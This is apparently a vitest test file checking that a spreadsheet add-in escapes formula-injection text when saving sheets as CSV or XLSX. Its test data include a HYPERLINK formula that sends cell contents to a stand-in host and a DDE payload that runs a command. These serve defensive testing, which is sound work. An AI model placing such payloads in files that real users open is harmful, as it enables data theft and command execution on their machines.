import { describe, expect, test } from 'vitest'
import { readXlsx } from 'hucre/xlsx'
import { DEFAULT_STYLE } from '../../../addin/workbench/host/workbook/cell.ts'
import { WorkbookModel } from '../../../addin/workbench/host/workbook/workbook.ts'
import { sheetAsCsv } from '../../../addin/workbench/page/save-csv.ts'
import { workbookAsXlsx } from '../../../addin/workbench/page/save-xlsx.ts'

/** Texts that a spreadsheet would take for formulas where a file lets it, and what a CSV file says of them. */
const HOSTILE: [text: string, csv: string][] = [
  ['=HYPERLINK("http://x/?"&A1,"c")', `"'=HYPERLINK(""http://x/?""&A1,""c"")"`],
  ['+1+1', "'+1+1"],
  ['-1+1', "'-1+1"],
  ['@SUM(1)', "'@SUM(1)"],
  ['\t=1+1', "'\t=1+1"],
  ['\r=1+1', `"'\r'=1+1"`],
  ["=cmd|'/C calc'!A0", "'=cmd|'/C calc'!A0"],
  ['＝1+1', "'＝1+1"],
  ['＋1', "'＋1"],
  ['－1', "'－1"],
  ['＠SUM(1)', "'＠SUM(1)"],
  ['  =1+1', "'  =1+1"],
  ['\u00a0 -1+1', "'\u00a0 -1+1"],
  ['sound\n=1+1', `"sound\n'=1+1"`],
  ['sound\r\n +1', `"sound\r\n' +1"`],
]

function workbookOf(values: readonly (string | number | boolean)[]): WorkbookModel {
  const workbook = new WorkbookModel()
  values.forEach((value, row) => workbook.activeSheet.place(row, 0, { value, style: DEFAULT_STYLE }))
  return workbook
}

describe('a sheet saved as CSV', () => {
  test.each(HOSTILE)('says %j as text', (text, csv) => {
    const workbook = workbookOf([text])
    expect(sheetAsCsv(workbook, workbook.activeSheet)).toBe(`${csv}\r\n`)
  })

  test.each([
    [-5.2, '-5.2'],
    ['a-b=c', 'a-b=c'],
    ['sum: =1+1', 'sum: =1+1'],
    [true, 'TRUE'],
  ])('leaves %j as it is', (value, csv) => {
    const workbook = workbookOf([value])
    expect(sheetAsCsv(workbook, workbook.activeSheet)).toBe(`${csv}\r\n`)
  })
})

test('a workbook saved as .xlsx has text for text, and no formula', async () => {
  const texts = HOSTILE.map(([text]) => text)
  const bytes = await workbookAsXlsx(workbookOf(texts))
  const { sheets } = await readXlsx(bytes)
  expect(sheets[0]!.rows.map(([cell]) => cell)).toEqual(texts)
  const formulas = [...(sheets[0]!.cells ?? new Map()).values()].filter((cell) => cell.formula)
  expect(formulas).toEqual([])
})
